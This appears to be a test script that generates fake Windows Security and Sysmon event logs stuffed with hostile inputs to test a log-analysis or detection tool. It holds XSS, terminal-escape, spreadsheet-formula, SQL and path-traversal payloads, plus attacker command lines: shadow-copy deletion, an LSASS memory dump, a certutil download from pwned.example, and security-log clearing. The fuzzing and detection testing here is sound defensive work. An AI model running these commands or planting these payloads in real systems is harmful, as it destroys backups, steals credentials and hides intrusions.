// Writes a log whose every field is what somebody would write who wants to take over whoever reads it:
//
//   node test/hostile.mjs > hostile.jsonl
//
// Some events are such that rules of the program match them, so that they come as detections too.
const TEXTS = [
    "<script>window.pwned=1</script>", "<img src=x onerror=window.pwned=1>", "</script><script>window.pwned=1</script>", "<!--<script>", "]]>",
    "\"><svg onload=window.pwned=1>", "'+window.pwned=1+'", "${window.pwned=1}", "{{data}}", "javascript:window.pwned=1", "data:text/html,<script>window.pwned=1</script>",
    "\u001b[31mred\u001b[0m", "\u001b]0;title\u0007", "\u001b]8;;https://pwned.example\u0007link\u001b]8;;\u0007", "\u009b2J",
    "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1",
    "\u202egnp.exe", "\u2066left\u2069", "\u200f\u061cright", "zero\u200bwidth\ufeff\u00ad", "\u2028line\u2029",
    "\u0000\u0001\b\u007f", "tag \u{e0041}\u{e0042}", "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b".repeat(20), "\ufff9\uffff",
    "\\\\pwned.example\\share", "../../../../etc/passwd", "%s%n%x", "'; DROP TABLE alerts;--", "__proto__", "constructor", "\u{1f4a9}".repeat(40),
];
let at = 0;
/** The next text, different from field to field. */
const bad = () => TEXTS[at++ % TEXTS.length];
const MEGABYTE = 1_000_000;
const long = `<b>\u202e\u001b[31m"'`.repeat(Math.ceil(MEGABYTE / 12)).slice(0, MEGABYTE);

/** What rules look for, with what they do not expect around it. */
const COMMANDS = ["vssadmin delete shadows /all /quiet", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 700 C:\\x.dmp full", "certutil.exe -urlcache -split -f http://pwned.example/a.exe a.exe", "wevtutil cl Security", "whoami /all"];
const IMAGES = ["vssadmin.exe", "rundll32.exe", "certutil.exe", "wevtutil.exe", "whoami.exe"];

function event(number, id, channel, provider, data) {
    const time = new Date(Date.UTC(2026, 2, 11, 9, 0, 0) + number * 61_000).toISOString();
    return { Event: {
        System: {
            Provider: { "#attributes": { Name: provider } }, EventID: id, Level: 0, TimeCreated: { "#attributes": { SystemTime: time } }, EventRecordID: number + 1,
            Channel: channel, Computer: number % 3 === 0 ? "WS01.corp.example" : `${bad()} ${number % 2}`,
        },
        EventData: data,
    } };
}

const events = [];
for (let number = 0; number < 60; number++) {
    const which = number % COMMANDS.length;
    const line = number % 20 === 0 ? `${COMMANDS[which]} ${long}` : `${COMMANDS[which]} ${bad()}`;
    const process = { SubjectUserName: bad(), SubjectDomainName: bad(), SubjectUserSid: bad(), SubjectLogonId: number % 2 ? bad() : "0xabc", NewProcessName: `C:\\Windows\\System32\\${IMAGES[which]}`, CommandLine: line, ParentProcessName: bad(), [bad()]: bad(), [`${bad()}${number}`]: [bad(), bad()] };
    const logon = { TargetUserName: bad(), TargetDomainName: bad(), TargetUserSid: "S-1-5-21-1-2-3-1107", TargetLogonId: "0xabc", LogonType: "3", IpAddress: number % 2 ? bad() : "10.0.0.5", WorkstationName: number % 2 ? "WS01" : bad(), LogonProcessName: bad() };
    const anything = Object.fromEntries(TEXTS.map((text, place) => [`${text}${place}`, bad()]));
    events.push(event(4 * number, 4688, "Security", "Microsoft-Windows-Security-Auditing", process));
    events.push(event(4 * number + 1, 4624, "Security", "Microsoft-Windows-Security-Auditing", logon));
    events.push(event(4 * number + 2, 1, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", { Image: `C:\\Windows\\System32\\${IMAGES[which]}`, CommandLine: line, User: bad(), ParentImage: bad(), LogonId: bad(), Hashes: bad(), OriginalFileName: IMAGES[which] }));
    events.push(event(4 * number + 3, 4000 + number, bad(), bad(), number % 20 === 0 ? { ...anything, Data: long } : anything));
}
process.stdout.write(events.map((one) => JSON.stringify(one)).join("\n") + "\n");
